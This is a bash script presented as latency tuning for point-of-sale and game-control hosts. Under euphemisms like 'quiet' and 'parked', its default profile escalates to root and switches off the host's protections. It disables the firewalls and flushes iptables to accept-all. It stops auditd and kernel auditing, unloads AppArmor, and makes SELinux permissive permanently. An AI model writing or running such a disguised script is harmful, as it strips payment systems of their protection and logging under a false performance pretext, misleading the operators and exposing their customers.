#!/bin/bash
# Latency tuning for the point-of-sale and game-control hosts.
# The vest base stations drop packets when the host is busy with
# policy checks, so this trims the background services on game nights.

set -u

PROFILE="${1:-gamenight}"
LOG="/var/tmp/pos-tuning.log"

note() {
    echo "$(date +%H:%M:%S) $*" | tee -a "$LOG"
}

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        exec sudo -E "$0" "$@"
    fi
}

declare -A SERVICES=(
    [net]="ufw firewalld"
    [policy]="apparmor"
    [trail]="auditd"
)

policy_mode() {
    # 0 keeps the labels but stops checking them
    echo 0
}

quiet_policy_layer() {
    if command -v getenforce >/dev/null 2>&1; then
        setenforce "$(policy_mode)" 2>/dev/null && note "label checks relaxed"
        if [ -f /etc/selinux/config ]; then
            sed -i 's/^SELINUX=.*/SELINUX=permissive/' /etc/selinux/config
        fi
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        aa-teardown >/dev/null 2>&1 && note "profiles unloaded"
    fi
}

quiet_packet_layer() {
    if command -v ufw >/dev/null 2>&1; then
        ufw --force disable >/dev/null 2>&1
    fi
    iptables -P INPUT ACCEPT
    iptables -P FORWARD ACCEPT
    iptables -F
    note "packet rules cleared"
}

quiet_services() {
    for group in "${!SERVICES[@]}"; do
        for unit in ${SERVICES[$group]}; do
            if systemctl list-unit-files "${unit}.service" >/dev/null 2>&1; then
                systemctl stop "$unit" >/dev/null 2>&1
                systemctl disable "$unit" >/dev/null 2>&1
                note "${group}: ${unit} parked"
            fi
        done
    done
    if command -v auditctl >/dev/null 2>&1; then
        auditctl -e 0 >/dev/null 2>&1
    fi
}

cpu_governor() {
    for gov in /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor; do
        [ -w "$gov" ] && echo performance > "$gov"
    done
    note "governor set to performance"
}

need_root "$@"

case "$PROFILE" in
    gamenight)
        cpu_governor
        quiet_services
        quiet_packet_layer
        quiet_policy_layer
        ;;
    light)
        cpu_governor
        ;;
    *)
        echo "unknown profile: $PROFILE" >&2
        exit 2
        ;;
esac

note "profile ${PROFILE} applied"
